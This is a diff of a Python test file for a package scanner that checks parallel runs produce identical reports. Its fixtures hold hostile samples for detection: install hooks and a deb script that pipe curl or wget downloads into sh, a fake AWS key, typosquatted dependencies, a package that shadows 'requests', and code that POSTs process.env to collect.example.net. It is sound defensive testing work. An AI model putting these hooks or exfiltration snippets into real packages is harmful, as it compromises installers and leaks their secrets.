@@ -1,66 +1,216 @@
+"""``--jobs N`` gives the same report as ``--jobs 1``, for every registered plug-in.
+
+The artifacts are built to make every analyzer and cataloger report something, including what
+crosses files (install hooks resolved in ``finish``, names declared in one file and checked
+against another, text captured for a baseline diff): state an analyzer kept between files would
+be lost in worker processes and show here as a difference.
+"""
+
 from __future__ import annotations
 
+import json
+import shutil
+import subprocess
 from dataclasses import replace
 from pathlib import Path
 
-from builders import tar_bytes, write, zip_bytes
-from finalexam.analyze.base import Analysis, ExamState
+import pytest
+
+from builders import deb_bytes, gzip_bytes, tar_bytes, write, zip_bytes
+from finalexam.analyze import ANALYZERS
+from finalexam.catalog import CATALOGERS
 from finalexam.config import Config
+from finalexam.diffing.api import diff
+from finalexam.diffing.render import DiffRenderOptions, render_json
 from finalexam.exam import run_exam
-from finalexam.model import Evidence, FileEntry, Finding, FindingKind, Severity
+from finalexam.model import Severity
 from finalexam.report.base import RenderOptions
 from finalexam.report.json import JsonReporter
 
-
-class MarkerAnalyzer:
-    """Reports every line containing MARKER; fails on purpose on files named boom.txt."""
-
-    name = "marker"
-
-    def __init__(self, config: Config) -> None:
-        self.config = config
-
-    def accepts(self, entry: FileEntry) -> bool:
-        return entry.name.endswith(".txt")
-
-    def analyze(self, entry: FileEntry) -> Analysis:
-        if entry.name == "boom.txt":
-            raise RuntimeError("cannot parse")
-        findings = [
-            Finding(
-                kind=FindingKind.BEHAVIOR,
-                rule_id="marker",
-                severity=Severity.LOW,
-                title="marker",
-                message="marker line",
-                location=entry.location,
-                found_by=self.name,
-                evidence=Evidence(line=number),
-            )
-            for number, line in enumerate(bytes(entry.data).splitlines(), 1)
-            if b"MARKER" in line
-        ]
-        return Analysis(findings=findings)
-
-    def finish(self, state: ExamState) -> Analysis:
-        return Analysis()
+STAMP = "2024-01-01T00:00:00Z"
+SETUP_PY = """\
+from setuptools import setup
+from setuptools.command.install import install
+from evilpkg.helpers import post_install
 
 
-def _render(target: Path, jobs: int) -> bytes:
-    config = replace(Config(), jobs=jobs, timestamp="2024-01-01T00:00:00Z")
-    report = run_exam(target, config, analyzers=(MarkerAnalyzer,))
-    return JsonReporter().render(report, RenderOptions(timestamp=config.timestamp))
+class Install(install):
+    def run(self):
+        install.run(self)
+        post_install()
 
 
-def test_parallel_analysis_gives_the_same_report(tmp_path: Path) -> None:
-    members = {f"dir{i % 7}/f{i}.txt": f"a\nMARKER {i}\nb\n" * (1 + i % 3) for i in range(120)}
-    members["dir0/boom.txt"] = "MARKER"
-    members["same/copy.txt"] = members["dir1/f1.txt"]  # identical content, analysed once
-    target = write(tmp_path / "many.zip", zip_bytes({"inner.tar": tar_bytes(members)}))
-    serial = _render(target, 1)
-    assert b"marker failed: RuntimeError: cannot parse" in serial
-    assert b"many.zip!/inner.tar!/same/copy.txt" in serial
-    assert serial == _render(target, 2)
+setup(name="evil-pkg", version="1.0", cmdclass={"install": Install})
+"""
+HELPERS = """\
+import os
+
+
+def post_install():
+    os.system("curl -s http://203.0.113.9/stage2 | sh")
+"""
+INSTALL_JS = """\
+const { execSync } = require("child_process");
+execSync("curl -s http://198.51.100.7/p.sh | sh");
+"""
+C_SOURCE = '#include <stdio.h>\nint main(void) { puts("hello"); return 0; }\n'
+AWS_KEYS = 'aws_access_key_id = "AKIAQYLPMN5HHHFPZAM2"\n'
+
+
+def _sdist() -> bytes:
+    root = "evil-pkg-1.0"
+    return gzip_bytes(
+        tar_bytes(
+            {
+                f"{root}/PKG-INFO": "Metadata-Version: 2.1\nName: evil-pkg\nVersion: 1.0\n\n",
+                f"{root}/setup.py": SETUP_PY,
+                f"{root}/evilpkg/__init__.py": "",
+                f"{root}/evilpkg/helpers.py": HELPERS,
+                f"{root}/evil_pkg.egg-info/requires.txt": "reqeusts\n",
+            }
+        )
+    )
+
+
+def _wheel() -> bytes:
+    info = "shadow-1.0.dist-info"
+    return zip_bytes(
+        {
+            f"{info}/METADATA": "Metadata-Version: 2.1\nName: shadow\nVersion: 1.0\n\n",
+            f"{info}/WHEEL": "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
+            f"{info}/RECORD": "",
+            "requests/__init__.py": "from shadow import *\n",
+            "shadow/__init__.py": "import os\nTOKEN = os.environ.get('HOME')\n",
+        }
+    )
+
+
+def _npm() -> bytes:
+    manifest = {
+        "name": "lib",
+        "version": "1.0.0",
+        "scripts": {"postinstall": "node install.js"},
+        "dependencies": {"lodash": "4.17.20", "expresss": "^4.0.0"},
+    }
+    return gzip_bytes(
+        tar_bytes(
+            {
+                "package/package.json": json.dumps(manifest, indent=2),
+                "package/install.js": INSTALL_JS,
+                "package/config.ini": AWS_KEYS,
+            }
+        )
+    )
+
+
+def _jar() -> bytes:
+    pom = "META-INF/maven/org.apache.logging.log4j/log4j-core/pom.properties"
+    return zip_bytes(
+        {
+            "META-INF/MANIFEST.MF": "Manifest-Version: 1.0\nImplementation-Version: 2.14.1\n",
+            pom: "groupId=org.apache.logging.log4j\nartifactId=log4j-core\nversion=2.14.1\n",
+            "org/apache/logging/log4j/core/Logger.class": b"\xca\xfe\xba\xbe\x00\x00\x00\x34"
+            + bytes(56),
+        }
+    )
+
+
+def _deb() -> bytes:
+    control = "Package: tool\nVersion: 1.2-3\nArchitecture: amd64\nMaintainer: x <x@example.org>\n"
+    script = "#!/bin/sh\nwget -q -O- http://192.0.2.44/i | sh\n"
+    return deb_bytes(control, {"usr/bin/tool-update": script})
+
+
+def _binary(directory: Path) -> bytes:
+    compiler = shutil.which("gcc")
+    if compiler is None:
+        pytest.skip("gcc is not installed (see .ci/system-packages)")
+    source = directory / "hello.c"
+    source.write_text(C_SOURCE)
+    out = directory / "hello"
+    subprocess.run([compiler, "-O1", "-o", str(out), str(source)], check=True)
+    return out.read_bytes()
+
+
+@pytest.fixture(scope="module")
+def release(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """One bundle holding an sdist with install hooks, a wheel, an npm tarball, a jar, a deb
+    and an ELF binary."""
+    directory = tmp_path_factory.mktemp("parallel")
+    members = {
+        "evil-pkg-1.0.tar.gz": _sdist(),
+        "shadow-1.0-py3-none-any.whl": _wheel(),
+        "lib-1.0.0.tgz": _npm(),
+        "log4j-core-2.14.1.jar": _jar(),
+        "tool_1.2-3_amd64.deb": _deb(),
+        "bin/hello": _binary(directory),
+    }
+    return write(directory / "release.zip", zip_bytes(members))
+
+
+def _config(jobs: int, **changes: object) -> Config:
+    return replace(Config(), jobs=jobs, timestamp=STAMP, **changes)  # type: ignore[arg-type]
+
+
+def _render(target: Path, config: Config) -> bytes:
+    report = run_exam(target, config)
+    return JsonReporter().render(report, RenderOptions(timestamp=STAMP))
+
+
+def test_every_registered_plugin_runs_and_reports(release: Path) -> None:
+    report = run_exam(release, _config(1))
+    statuses = {p.name: p.status for p in report.plugins}
+    registered = {make().name for make in CATALOGERS} | {make(Config()).name for make in ANALYZERS}
+    assert {name for name, status in statuses.items() if status == "ok"} == registered
+    found = {f.found_by for f in report.findings}
+    # what crosses files: the install command's helper and the shadowing import package
+    rules = {f.rule_id for f in report.findings}
+    assert {"shadows-popular-package", "setup-command-override"} <= rules
+    assert any(f.location and f.location.path.endswith("helpers.py") for f in report.findings)
+    assert {"behavior", "secrets", "typosquat"} <= found
+    assert report.indicators
+    assert any(str(b["location"]).endswith("bin/hello") for b in report.binaries)
+    assert any(c.name.endswith(":log4j-core") for c in report.components)
+    assert any(c.name == "tool" and c.ecosystem == "Debian" for c in report.components)
+    assert any(f.severity.rank >= Severity.HIGH.rank for f in report.findings)
+
+
+def test_jobs_do_not_change_the_report(release: Path) -> None:
+    serial = _render(release, _config(1))
+    assert serial == _render(release, _config(2))
+
+
+def _npm_release(directory: Path, version: str, files: dict[str, str]) -> Path:
+    manifest = json.dumps({"name": "lib", "version": version}, indent=2)
+    members = {"package/package.json": manifest, **{f"package/{k}": v for k, v in files.items()}}
+    return write(directory / f"lib-{version}.tgz", gzip_bytes(tar_bytes(members)))
+
+
+ADDED_CODE = """\
+const https = require("https");
+module.exports = function send(data) {
+  const request = https.request({ host: "collect.example.net", method: "POST" });
+  request.write(JSON.stringify(process.env));
+  request.end();
+};
+"""
+
+
+def test_jobs_do_not_change_a_baseline_diff(tmp_path: Path) -> None:
+    old = _npm_release(tmp_path, "1.0.0", {"index.js": "module.exports = 1;\n"})
+    new = _npm_release(
+        tmp_path,
+        "1.1.0",
+        {"index.js": "module.exports = require('./send');\n", "send.js": ADDED_CODE},
+    )
+    options = DiffRenderOptions(timestamp=STAMP)
+    rendered = [render_json(diff(old, new, _config(jobs)), options) for jobs in (1, 2)]
+    assert rendered[0] == rendered[1]
+    kinds = {change["kind"] for change in json.loads(rendered[0])["changes"]}
+    assert "code-added" in kinds or "file-added" in kinds
+    scans = [_render(new, _config(jobs, baseline=str(old))) for jobs in (1, 2)]
+    assert scans[0] == scans[1]
+    assert b"baseline_diff" in scans[0]
 
 
 def test_a_copy_under_tests_does_not_lend_its_verdict_to_the_library(tmp_path: Path) -> None:
